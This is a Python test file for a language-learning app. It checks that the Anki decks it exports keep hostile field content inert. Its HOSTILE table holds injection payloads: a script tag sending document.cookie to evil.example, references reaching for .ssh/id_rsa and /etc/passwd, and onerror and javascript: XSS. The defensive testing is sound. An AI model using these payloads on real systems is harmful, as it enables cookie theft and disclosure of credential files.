"""An Anki deck carries the learner's and the model's text as text: no field
holds anything Anki or its card viewer would act on.

Anki reads a field as HTML, then parses its own syntax in that HTML as stored
(rslib's card_rendering parser: ``[sound:…]``, ``[anki:tag]…[/anki:tag]``;
LaTeX ``[latex]``, ``[$]``, ``[$$]``; a cloze ``{{c1::…}}``; a template
reference ``{{Field}}``), and MathJax typesets ``\\(…\\)`` and ``\\[…\\]`` in the
card's text. Each row puts one of them in every text a note is made from (the
sentence, its correction, the rule, a word card's word and meaning) and reads
the notes back from ``collection.anki2`` inside the ``.apkg``.
"""

from __future__ import annotations

import html
import json
import sqlite3
import zipfile

import pytest

from memora.teaching.ledger import LedgerStore, NewMistake

HOSTILE = {
    "a sound reference": "[sound:evil.mp3]",
    "a sound reference out of the media folder": "[sound:../../../.ssh/id_rsa]",
    "a video reference": "[sound:movie.mp4]",
    "a text-to-speech tag": "[anki:tts lang=en_US voices=Apple_Samantha]read me aloud[/anki:tts]",
    "any Anki tag": "[anki:play:q:0]",
    "LaTeX": r"[latex]\input{/etc/passwd}[/latex]",
    "inline LaTeX": "[$]x^2[/$]",
    "display LaTeX": "[$$]\\sum x[/$$]",
    "a cloze": "{{c1::went::past of go}}",
    "a template reference": "{{FrontSide}}",
    "a field reference": "{{Answer}}",
    "a filtered field reference": "{{text:Rule}}",
    "MathJax inline": r"\(x^2\)",
    "MathJax display": r"\[x^2\]",
    "an image with a sound reference": '<img src="evil.jpg" onerror="alert(1)">[sound:a.mp3]',
    "an audio element and a cloze": '<audio src="a.mp3" autoplay></audio>{{c2::x}}',
    "a sound reference in capitals": "[SOUND:evil.mp3]",
    "a sound reference split by a tag": "[so<b></b>und:evil.mp3]",
    "a sound reference as entities": "&#91;sound:evil.mp3&#93;",
    "a script element": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "a link to script": '<a href="javascript:alert(1)">tap</a>',
    "a video element": '<video src="v.mp4" autoplay></video>',
    "a type-in answer": "{{type:Answer}}",
}
# What Anki or MathJax would act on, as it would find it in a stored field.
LIVE = (
    "[sound:",
    "[anki:",
    "[/anki:",
    "[latex]",
    "[$]",
    "[$$]",
    "{{",
    "}}",
    "<img",
    "<audio",
    "<script",
    "<a ",
    "<video",
    "<b>",
    "\\(",
    "\\[",
)


def _notes(path, tmp_path):
    with zipfile.ZipFile(path) as archive:
        archive.extract("collection.anki2", tmp_path / "unzipped")
        media = json.loads(archive.read("media"))
    db = sqlite3.connect(tmp_path / "unzipped" / "collection.anki2")
    try:
        return [row[0].split("\x1f") for row in db.execute("SELECT flds FROM notes ORDER BY id")], media
    finally:
        db.close()


def _shown(field: str) -> str:
    """What the card shows: the field's HTML as a browser decodes it, the invisible word joiner aside."""
    return html.unescape(field).replace("\u2060", "")


@pytest.mark.parametrize("case", list(HOSTILE), ids=lambda c: c.replace(" ", "-"))
def test_no_anki_field_carries_a_live_media_reference_or_markup(tmp_path, clock, case):
    from memora.teaching.anki import write_deck

    hostile = HOSTILE[case]
    ledger = LedgerStore(tmp_path / "memora_mistakes.json", clock=clock)
    ledger.record(
        NewMistake(
            original=f"Yesterday I goed home {hostile}",
            corrected=f"Yesterday I went home {hostile}",
            rule=f"go → went {hostile}",
            kind="grammar",
        )
    )
    ledger.add_word(f"ubiquitous{hostile}", f"found everywhere {hostile}")
    path = tmp_path / "deck.apkg"

    assert write_deck(ledger.all(), path, user="ming", now=clock()) == 2

    notes, media = _notes(path, tmp_path)
    assert media == {}  # the deck ships no media file either
    for fields in notes:
        for field in fields:
            assert not [live for live in LIVE if live in field.lower()], (case, field)
    mistake, word = notes
    # and the learner still reads exactly what was stored
    assert _shown(mistake[0]) == f"Fix this sentence: “Yesterday I goed home {hostile}”"
    assert _shown(mistake[1]) == f"Yesterday I went home {hostile}"
    assert _shown(mistake[2]) == f"go → went {hostile}"
    assert _shown(word[1]) == f"found everywhere {hostile}"
